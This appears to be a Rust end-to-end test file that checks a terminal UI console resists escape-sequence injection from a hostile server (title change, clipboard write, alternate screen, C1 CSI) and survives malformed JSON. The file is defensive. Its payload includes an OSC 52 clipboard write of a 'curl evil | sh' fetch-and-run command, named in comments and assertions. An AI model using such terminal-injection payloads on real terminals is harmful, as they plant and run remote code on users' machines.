//! Issue 10, terminal injection through the TUI: the real binary in a real tmux against a
//! server whose every string carries a title change (OSC 0), a screen clear, a clipboard write
//! (OSC 52 `curl evil | sh`), the alternate screen and a C1 CSI. Every pane is visited, detail
//! and JSON overlays opened, dialogs previewed and actions recorded (their reports shown);
//! the tmux pane title must not change, no paste buffer may appear, and after quitting the
//! alternate screen is off. A control run first proves tmux here does react to the payload.

mod support;

#[path = "support/contract_server/mod.rs"]
mod contract_server;
#[path = "support/hostile.rs"]
mod hostile;
#[path = "support/tmux.rs"]
mod tmux;

use std::time::{Duration, Instant};

use hostile::{Mode, PAYLOAD, TOKEN};
use tmux::{Tmux, launch};

fn display(t: &Tmux, format: &str) -> String {
    let o = t
        .cmd()
        .args(["display", "-p", "-t", "e2e", format])
        .output()
        .unwrap();
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

fn buffers(t: &Tmux) -> String {
    let o = t.cmd().arg("list-buffers").output().unwrap();
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Starts an idle pane, turns on what a hostile sequence could abuse (tmux accepts OSC 52 into
/// its paste buffers), then runs `cmd` in it through a shell that prints `EXIT=<code>` after.
fn start_exposed(t: &Tmux, cmd: &str) {
    t.start(160, 45, "cat");
    for opt in [["set-clipboard", "on"], ["remain-on-exit", "on"]] {
        assert!(
            t.cmd()
                .arg("set")
                .arg("-g")
                .args(opt)
                .status()
                .unwrap()
                .success()
        );
    }
    // The shell prints the exit code and keeps the pane (and its screen state) open.
    let cmd = format!("sh -c '{cmd}; echo EXIT=$?; cat'");
    assert!(
        t.cmd()
            .args(["respawn-pane", "-k", "-t", "e2e", &cmd])
            .status()
            .unwrap()
            .success()
    );
}

/// Waits for the console to end and returns its exit code (the pane's shell prints it).
fn wait_exit(t: &Tmux) -> String {
    let s = t.wait_for("EXIT=");
    let code = s.split("EXIT=").nth(1).unwrap_or("");
    code.split_whitespace().next().unwrap_or("").to_string()
}

#[test]
fn the_control_run_shows_tmux_obeys_the_payload() {
    let t = Tmux::new("hostile-control");
    let before = {
        t.start(80, 20, "cat");
        display(&t, "#{pane_title}")
    };
    drop(t);
    let t = Tmux::new("hostile-control2");
    let bytes: String = PAYLOAD
        .chars()
        .map(|c| format!("\\{:03o}", c as u32 & 0xff))
        .collect();
    // printf writes the payload raw (U+009B as a single byte; harmless to tmux's UTF-8 parser).
    start_exposed(&t, &format!("printf \"{bytes}\""));
    let start = Instant::now();
    while buffers(&t).is_empty() {
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "no buffer appeared"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(buffers(&t).contains("curl evil | sh"), "{}", buffers(&t));
    assert_eq!(display(&t, "#{pane_title}"), "pwned-title", "was {before}");
    assert_eq!(display(&t, "#{alternate_on}"), "1");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_pane_overlay_and_dialog_keeps_hostile_strings_off_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let url = hostile::poisoned(&dir.path().join("server.db"), Mode::Readable).await;
    let home = dir.path().join("home");
    tokio::task::spawn_blocking(move || {
        let t = Tmux::new("hostile-tui");
        let cmd = format!(
            "{} --api {url}",
            launch(
                &home,
                &format!("CAVRA_TOKEN={TOKEN} CAVRA_TUI_KEYRING=none")
            )
        );
        start_exposed(&t, &cmd);
        let title = display(&t, "#{pane_title}");
        assert!(!title.contains("pwned"), "{title}");
        let check = |step: &str| {
            assert_eq!(
                display(&t, "#{pane_title}"),
                title,
                "title changed at {step}"
            );
            assert_eq!(buffers(&t), "", "a paste buffer appeared at {step}");
            let s = t.screen(true);
            assert!(!s.contains("\u{9b}"), "raw C1 on screen at {step}");
        };
        let mut steps = 0;
        let mut step = |name: &str, keys: &[&str], wait: &str| {
            t.keys(keys);
            t.wait_for(wait);
            check(name);
            steps += 1;
        };

        // Pane 1: rows, the detail, the raw JSON, a dialog's preview, a recorded action.
        step("routes", &[], "Routes 45/45");
        step("routes shows the strings", &[], "pwned-title");
        step("route detail", &["Enter"], "Acknowledgement history");
        step("close", &["Escape"], "Routes 45/45");
        step("route JSON", &["J"], "\"plan_id\"");
        step("close", &["Escape"], "Routes 45/45");
        step("ack preview", &["a"], "Record this? [y/N]");
        t.literal("hostile drill");
        // The poisoning proxy changes the strings of the answer's record too, so the console
        // may find it is not the record of what was sent (a report to close), or take it (a
        // notice): either way the outcome says "recorded …" / "Recorded 0 of 1 …".
        t.keys(&["Enter", "Enter", "y"]);
        t.wait_without("Record this? [y/N]");
        if t.wait_for("ecorded ").contains("esc closes") {
            t.keys(&["Escape"]);
            t.wait_without("esc closes");
        }
        check("ack answered");
        step("bulk preview", &["A"], "Dry run:");
        step("bulk cancelled", &["Escape"], "Routes 45/45");

        // Panes 2-6: each loaded, its detail and JSON, and an action with its report.
        step("health", &["2"], "Delivery health");
        step("health shows the strings", &[], "pwned-title");
        // Keys a pane may ignore are followed by one whose effect is awaited.
        step(
            "health detail and JSON",
            &["Enter", "J", "Escape", "Escape"],
            "Delivery health",
        );
        step("history", &["3"], "notification-ack");
        step("history record", &["Enter"], "session_id");
        step("close", &["Escape"], "notification-ack");
        step("history JSON", &["Enter", "J"], "Raw JSON");
        step("close", &["Escape"], "notification-ack");
        step("retry", &["4"], "Audit retry plan");
        step("plan retry", &["p"], "Max attempts");
        t.confirm_and_close(4, "Plan Audit Retry");
        check("plan retry report");
        step("retry rows", &[], "pwned-title");
        step("retry detail", &["Enter"], "");
        step("close", &["Escape"], "Audit retry plan");
        step("retry JSON", &["J"], "");
        step("close", &["Escape"], "Audit retry plan");
        step("worker", &["5"], "Worker health");
        step("run worker", &["w"], "Run Audit Worker (dry run)");
        t.confirm_and_close(2, "Run Audit Worker (dry run)");
        check("worker report");
        step("send alert", &["l"], "Window minutes");
        t.confirm_and_close(3, "Send Worker Alert");
        check("alert report");
        step("worker detail", &["Enter"], "");
        step("close", &["Escape"], "Worker health");
        step("worker JSON", &["J"], "");
        step("close", &["Escape"], "Worker health");
        step("archive", &["6"], "6 Archive health");
        step("archive shows the strings", &[], "pwned-title");
        step("archive detail", &["Enter"], "");
        step("close", &["Escape"], "6 Archive health");
        step("archive JSON", &["J"], "");
        step("close", &["Escape"], "6 Archive health");
        step("check archive", &["c"], "Record this?");
        step("cancel", &["Escape"], "6 Archive health");
        step("help", &["?"], "Help ·");
        step("close", &["Escape"], "6 Archive health");
        step("contexts", &["C"], "sample");
        step("close", &["Escape"], "6 Archive health");
        t.keys(&["q"]);
        assert_eq!(wait_exit(&t), "0");
        check("after quitting");
        assert_eq!(
            display(&t, "#{alternate_on}"),
            "0",
            "the alternate screen is off"
        );
        println!("TUI: {steps} hostile screens, title and buffers untouched");
    })
    .await
    .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn thin_answers_leave_every_pane_standing() {
    let bodies = [
        serde_json::json!({}),
        serde_json::json!([]),
        serde_json::json!({"items": [null, 1, {"metadata_kind": cavra_tui::domain::record::kind::NOTIFICATION_PLAN,
            "created_at": "not-a-date", "schedule_id": 7, "plan": {"route_decisions": [{"provider": "slack",
            "acknowledgement_minutes": "sixty"}, {"provider": {}}]}}], "total": 3, "offset": 0,
            "plan": [], "health": "x", "alerts": {}, "mode": 5, "authenticated": "yes"}),
    ];
    let mut urls = Vec::new();
    for b in bodies {
        urls.push(hostile::thin(b).await);
    }
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().to_path_buf();
    tokio::task::spawn_blocking(move || {
        for (i, url) in urls.iter().enumerate() {
            let t = Tmux::new(&format!("thin{i}"));
            start_exposed(
                &t,
                &format!("{} --api {url}", launch(&home, "CAVRA_TUI_KEYRING=none")),
            );
            t.wait_for("1 Routes");
            if i == 2 {
                // The plan's date and SLO are unreadable: the row is marked, never a made-up age.
                let s = t.wait_for("? invalid");
                assert!(
                    s.contains("1 record(s) could not be read"),
                    "the count is said: {s}"
                );
                assert!(s.contains("Routes 1/1") && s.contains("▲ yes"), "{s}");
            }
            for pane in ["1", "2", "3", "4", "5", "6"] {
                t.keys(&[pane]);
                t.wait_without("loading");
                t.keys(&["Enter", "J", "Escape", "Escape"]);
            }
            t.keys(&["?"]);
            t.wait_for("Help · esc closes");
            let s = t.screen(false);
            assert!(
                !s.contains("panicked") && !s.contains("EXIT="),
                "body {i}: still running:\n{s}"
            );
            t.keys(&["Escape", "q"]);
            assert_eq!(
                wait_exit(&t),
                "0",
                "body {i}: clean exit:\n{}",
                t.screen(false)
            );
        }
    })
    .await
    .unwrap();
}
